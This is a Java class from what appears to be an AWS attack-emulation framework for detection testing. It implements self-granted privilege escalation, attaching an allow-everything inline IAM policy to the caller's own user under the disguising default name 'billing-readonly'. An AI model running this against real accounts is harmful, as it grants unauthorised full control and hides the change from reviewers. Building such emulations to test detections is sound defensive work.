package io.firedrill.injector.technique.privilegeescalation;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Puts an allow-everything inline policy on the attacker's own user. */
public final class IamPutUserPolicySelf implements Technique<IamPutUserPolicySelf.Params> {

  static final String ALLOW_ALL =
      "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}";

  /**
   * @param policyName the inline policy's name
   */
  public record Params(String policyName) {}

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.privilege-escalation.iam-put-user-policy-self",
          "Put an allow-all inline policy on oneself",
          "Finds its own user name with sts:GetCallerIdentity, then calls iam:PutUserPolicy with"
              + " an inline policy allowing every action: inline policies show in no policy list.",
          List.of("T1098.003"),
          IncidentType.PRIVILEGE_ESCALATION,
          List.of("GetCallerIdentity", "PutUserPolicy"),
          List.of("PrivilegeEscalation:IAMUser/AnomalousBehavior"),
          List.of("iam:PutUserPolicy"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("policyName"));
    return new Params(with.getOrDefault("policyName", "billing-readonly"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    // sts:GetCallerIdentity needs no permission: AWS lets every caller ask who it is.
    return arns.roleSession() ? List.of() : Grant.on(arns.selfUser(), "iam:PutUserPolicy");
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    List<ApiCall> calls = new ArrayList<>();
    String self = SelfName.lookUp(session, calls);
    if (self == null) {
      return calls;
    }
    ledger.willMake(Change.of(Change.IAM_USER_INLINE_POLICY, self, "policyName", p.policyName()));
    calls.add(
        session.call(
            "iam",
            "PutUserPolicy",
            () ->
                session
                    .iam()
                    .putUserPolicy(
                        r ->
                            r.userName(self)
                                .policyName(p.policyName())
                                .policyDocument(ALLOW_ALL))));
    return calls;
  }
}
